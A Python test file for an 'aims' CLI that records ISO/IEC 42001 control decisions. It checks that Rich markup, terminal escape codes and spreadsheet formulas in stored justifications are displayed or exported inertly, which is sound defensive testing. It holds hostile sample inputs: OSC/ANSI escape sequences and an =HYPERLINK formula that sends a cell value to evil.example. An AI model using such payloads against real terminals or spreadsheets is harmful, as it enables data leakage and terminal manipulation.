"""Stored and user text reaches the terminal as text: never as Rich markup, never as raw control codes.

Driven through the real ``aims`` console script, once as a pipe and once as a terminal (``TTY_COMPATIBLE=1``
makes Rich treat stdout as a terminal, with colour and tables).
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import EXAMPLE_INVENTORY

MARKUP_SYSTEM = "Bot [/]"
# An OSC sequence (sets the terminal title) and a bell: a terminal acts on both if they reach it raw.
HOSTILE = "Logged for complaints [/] [bold]really[/bold] \x1b]0;pwned\x07 and \x1b[5mblinking\x1b[0m text"
ANSI = re.compile(r"\x1b\[[0-9;]*m")


def aims(home: Path, *args: str, terminal: bool = False) -> subprocess.CompletedProcess[str]:
    """Run the real ``aims`` script; ``terminal`` makes Rich believe stdout is a terminal."""
    env = {**os.environ, "AIMS_HOME": str(home), "COLUMNS": "400"}
    env.pop("AIMS_STORE", None)
    for name in ("TTY_COMPATIBLE", "FORCE_COLOR", "NO_COLOR"):
        env.pop(name, None)
    if terminal:
        env["TTY_COMPATIBLE"] = "1"
    exe = Path(sys.executable).parent / "aims"
    return subprocess.run([str(exe), *args], env=env, capture_output=True, text=True, timeout=120)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store whose support chatbot is called ``Bot [/]``, with one hostile justification recorded."""
    folder = tmp_path_factory.mktemp("escaping")
    inventory = folder / "inventory.yaml"
    text = EXAMPLE_INVENTORY.read_text(encoding="utf-8").replace("Support chatbot", f'"{MARKUP_SYSTEM}"')
    inventory.write_text(text, encoding="utf-8")
    home = folder / "home"
    loaded = aims(home, "load", "--inventory", str(inventory))
    assert loaded.returncode == 0, loaded.stderr
    decided = aims(home, "decide", "-c", "A.7.4", "--verdict", "applicable", "-j", HOSTILE, "--by", "U-LEAD")
    assert decided.returncode == 0, decided.stderr
    on_system = aims(
        home, "decide", "-c", "A.6.2.8", "-s", MARKUP_SYSTEM, "--verdict", "applicable", "-j", HOSTILE, "--by", "U1"
    )
    assert on_system.returncode == 0, on_system.stderr
    return home


def test_justification_with_markup_does_not_crash_history(home: Path) -> None:
    for terminal in (False, True):
        shown = aims(home, "history", "A.7.4", terminal=terminal)
        assert shown.returncode == 0, shown.stderr
        assert "Traceback" not in shown.stderr
        assert "[/]" in shown.stdout and "[bold]really[/bold]" in shown.stdout


def test_system_named_with_markup_is_recorded_once_and_reported(home: Path) -> None:
    decided = aims(
        home, "decide", "-c", "A.8.2", "-s", MARKUP_SYSTEM, "--verdict", "applicable", "-j", "Customers talk to it.",
        "--by", "U-LEAD",
    )  # fmt: skip
    assert decided.returncode == 0, decided.stderr
    assert "Traceback" not in decided.stderr
    assert decided.stdout.startswith(f"recorded: A.8.2 on {MARKUP_SYSTEM} -> applicable")
    listed = aims(home, "history", "A.8.2", "-s", MARKUP_SYSTEM, "--json")
    assert listed.returncode == 0, listed.stderr
    assert '"verdict": "applicable"' in listed.stdout and listed.stdout.count('"when"') == 1


@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
def test_markup_in_control_option_is_a_one_line_error(home: Path, terminal: bool) -> None:
    refused = aims(
        home, "decide", "-c", "A.7.[/]4", "--verdict", "applicable", "-j", "Long enough to be a reason.", "--by", "U1",
        terminal=terminal,
    )  # fmt: skip
    assert refused.returncode == 1
    assert "MarkupError" not in refused.stderr and "Traceback" not in refused.stderr
    lines = ANSI.sub("", refused.stderr).strip().splitlines()
    assert lines == ["error: control: 'A.7.[/]4' is not an Annex A control of ISO/IEC 42001:2023"]


def test_markup_in_an_unknown_system_name_is_a_one_line_error(home: Path) -> None:
    refused = aims(home, "history", "A.7.4", "-s", "[bold]Nope[/]")
    assert refused.returncode == 1
    assert refused.stderr.strip() == "error: system: no AI system called '[bold]Nope[/]' in the inventory"


def test_ansi_escapes_in_stored_text_do_not_reach_the_terminal_raw(home: Path) -> None:
    for terminal in (False, True):
        shown = aims(home, "history", "A.7.4", terminal=terminal)
        assert shown.returncode == 0, shown.stderr
        assert "\x07" not in shown.stdout and "\x1b]" not in shown.stdout and "\x1b[5m" not in shown.stdout
        # Made visible instead: a reader sees that the text carries escape codes.
        assert "\\x1b]0;pwned\\x07" in shown.stdout
        assert "\\x1b[5mblinking\\x1b[0m" in shown.stdout
    for fmt in ("csv", "md"):
        soa = aims(home, "soa", "-s", MARKUP_SYSTEM, "--format", fmt, terminal=True)
        assert soa.returncode == 0, soa.stderr
        assert "\x07" not in soa.stdout and "\x1b" not in soa.stdout
        # Markdown escapes the brackets (no link syntax from stored text); CSV keeps them as written.
        assert ("Logged for complaints \\[/\\]" if fmt == "md" else "Logged for complaints [/]") in soa.stdout


def test_plain_output_is_the_terminal_text_without_colour(home: Path) -> None:
    args = ("decide", "-c", "A.7.4", "--verdict", "applicable", "-j", HOSTILE, "--by", "U-LEAD", "--key", "same")
    assert aims(home, *args).returncode == 0
    piped = aims(home, *args)
    on_terminal = aims(home, *args, terminal=True)
    assert piped.returncode == on_terminal.returncode == 0
    assert piped.stdout.startswith("already recorded (same key): A.7.4 on the organisation")
    assert "\x1b" not in piped.stdout
    assert ANSI.sub("", on_terminal.stdout) == piped.stdout
    header, *rows = aims(home, "history", "A.7.4").stdout.splitlines()
    assert header.split("\t") == ["when", "verdict", "by", "type", "justification", "current", "via"]
    # A hostile justification never breaks a row in two or adds a column.
    assert [len(r.split("\t")) for r in rows] == [7] * len(rows) and len(rows) >= 2
    assert rows[-1].split("\t")[4] == (
        "Logged for complaints [/] [bold]really[/bold] \\x1b]0;pwned\\x07 and \\x1b[5mblinking\\x1b[0m text"
    )


FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "see the policy")'


def test_formula_in_a_justification_is_inert_in_spreadsheet_exports(home: Path, tmp_path: Path) -> None:
    decided = aims(
        home, "decide", "-c", "A.5.2", "-s", MARKUP_SYSTEM, "--verdict", "applicable", "-j", FORMULA, "--by", "U1"
    )
    assert decided.returncode == 0, decided.stderr
    shown = aims(home, "soa", "-s", MARKUP_SYSTEM, "--format", "csv")
    assert shown.returncode == 0, shown.stderr
    rows = {r["control"]: r for r in csv.DictReader(io.StringIO(shown.stdout))}
    assert rows["A.5.2"]["justification"] == "'" + FORMULA
    assert rows["A.5.2"]["decided_by"] == "U1" and rows["A.5.2"]["decided_at"].startswith("20")  # data untouched

    book = tmp_path / "soa.xlsx"
    assert aims(home, "soa", "-s", MARKUP_SYSTEM, "--format", "xlsx", "-o", str(book)).returncode == 0
    sheet = load_workbook(book).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    justification = cells["A.5.2"][header.index("justification")]
    assert justification.value == "'" + FORMULA and justification.data_type == "s"
    # XML cannot hold control characters: shown as escapes rather than failing the whole export.
    assert "\\x1b]0;pwned\\x07" in cells["A.6.2.8"][header.index("justification")].value

    # The SPARQL results format stays faithful: it is for programs, not spreadsheets.
    query = "SELECT ?j WHERE { ?d <https://w3id.org/aims-graph/ontology#justification> ?j FILTER(STRSTARTS(?j, '=')) }"
    results = aims(home, "sparql", query, "--format", "csv")
    assert results.stdout.splitlines()[1] == '"' + FORMULA.replace('"', '""') + '"'


def test_oversized_justification_from_the_cli_is_refused_with_the_limit(home: Path) -> None:
    refused = aims(home, "decide", "-c", "A.5.3", "--verdict", "applicable", "-j", "x" * 1_501, "--by", "U1")
    assert refused.returncode == 1
    assert refused.stderr.strip() == (
        "error: justification: at most 1,500 characters, got 1,501: shorten it and link longer reasoning as evidence"
    )
    assert "no decision" in aims(home, "history", "A.5.3").stdout
